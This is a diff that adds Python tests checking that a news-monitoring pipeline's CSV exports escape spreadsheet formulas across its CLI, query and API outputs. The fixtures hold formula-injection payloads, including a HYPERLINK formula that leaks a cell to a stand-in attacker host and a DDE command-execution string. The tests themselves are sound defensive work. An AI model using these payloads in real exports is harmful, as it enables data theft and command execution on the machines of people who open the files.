@@ -3,14 +3,17 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
+from datetime import datetime, timezone
 
 import pyarrow.parquet as pq
 import pytest
 
 from pipeline.cli.main import run
 from pipeline.config import reload_settings
-from pipeline.export import TABLES, data_dictionary, export_dataset
+from pipeline.export import TABLES, csv_cell, data_dictionary, export_dataset
+from pipeline.store.articles import upsert_article
 from test_queries import XSS_TITLE, seed_articles
 
 
@@ -89,3 +92,71 @@ def test_cli_query_errors_are_one_line(seeded_cli, capsys, argv, message) -> Non
     assert run(argv) != 0
     err = capsys.readouterr().err.strip()
     assert message in err and len(err.splitlines()) == 1
+
+
+# Cells a spreadsheet would run as formulas, as an article could carry them in its title or quotes.
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
+FORMULA_QUOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORMULA_SUBJECT = "+62 812 0000 (kontak)"
+
+
+@pytest.mark.parametrize("value, expected", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+cmd", "'-1+cmd"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("\uff1d1+1", "'\uff1d1+1"),
+    ("Laju Digital = literasi", "Laju Digital = literasi"), ("", ""), (None, None),
+    (-2.5, -2.5), (16, 16), (["kompas", "=x"], "kompas;=x"), (["=x", "y"], "'=x;y"),
+    (datetime(2018, 8, 14, 3, 0, tzinfo=timezone.utc), "2018-08-14T03:00:00+00:00"),
+])
+def test_csv_cell_neutralises_formulas_and_keeps_values(value, expected) -> None:
+    assert csv_cell(value) == expected
+
+
+def _seed_formula_article(store) -> None:
+    url = "https://www.kompas.example/read/formula"
+    with store.session() as session:
+        upsert_article(session, {
+            "url_key": url, "url": url, "outlet_id": "kompas", "outlet_name": "Kompas.com", "title": FORMULA_TITLE,
+            "text": "Laju Digital di Makassar.", "published_at": datetime(2018, 8, 15, 3, 0, tzinfo=timezone.utc),
+            "pipeline_version": "test", "is_article": True,
+        }, {"quotes": [{"speaker": "-Budi", "text": FORMULA_QUOTE}],
+            "statistics": [{"value": 5, "unit": "percent", "raw": "5 persen", "subject": FORMULA_SUBJECT,
+                            "sentence": "=5 persen", "source": "@IdEA"}]},
+            [{"campaign_id": "laju-digital", "score": 0.9, "matched": True, "reasons": ["test"]}])
+
+
+def _no_formula_cells(rows: list[list[str]]) -> list[str]:
+    return [cell for row in rows for cell in row if cell and cell.lstrip()[:1] in set("=+-@\t\r")]
+
+
+def test_every_csv_output_neutralises_formulas(seeded_cli, tmp_path, capsys) -> None:
+    _seed_formula_article(seeded_cli)
+    # pantau export --format csv
+    assert run(["export", "--format", "csv", "--out", str(tmp_path / "csv")]) == 0
+    for name in ("articles", "quotes", "statistics"):
+        with (tmp_path / "csv" / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
+            rows = list(csv.reader(handle))
+        assert _no_formula_cells(rows) == [], name
+    with (tmp_path / "csv" / "articles.csv").open(encoding="utf-8", newline="") as handle:
+        assert "'" + FORMULA_TITLE in {row["title"] for row in csv.DictReader(handle)}
+    # pantau query ... --format csv
+    for kind in ("articles", "quotes", "statistics"):
+        assert run(["query", kind, "--format", "csv"]) == 0
+        rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+        assert len(rows) > 1 and _no_formula_cells(rows) == [], kind
+    assert run(["query", "quotes", "--format", "csv"]) == 0
+    assert "'" + FORMULA_QUOTE in capsys.readouterr().out
+    # the API's CSV downloads
+    from fastapi.testclient import TestClient
+
+    from web.app import create_app
+
+    with TestClient(create_app(seeded_cli, admin_token="")) as client:
+        for kind in ("articles", "quotes", "statistics", "stories"):
+            response = client.get(f"/api/{kind}.csv")
+            assert response.status_code == 200
+            rows = list(csv.reader(io.StringIO(response.text)))
+            assert len(rows) > 1 and _no_formula_cells(rows) == [], kind
+        assert "'" + FORMULA_SUBJECT in client.get("/api/statistics.csv").text
+        # JSON is data, not a spreadsheet: it keeps the text as written.
+        titles = {row["title"] for row in client.get("/api/articles", params={"page_size": 50}).json()["items"]}
+        assert FORMULA_TITLE in titles
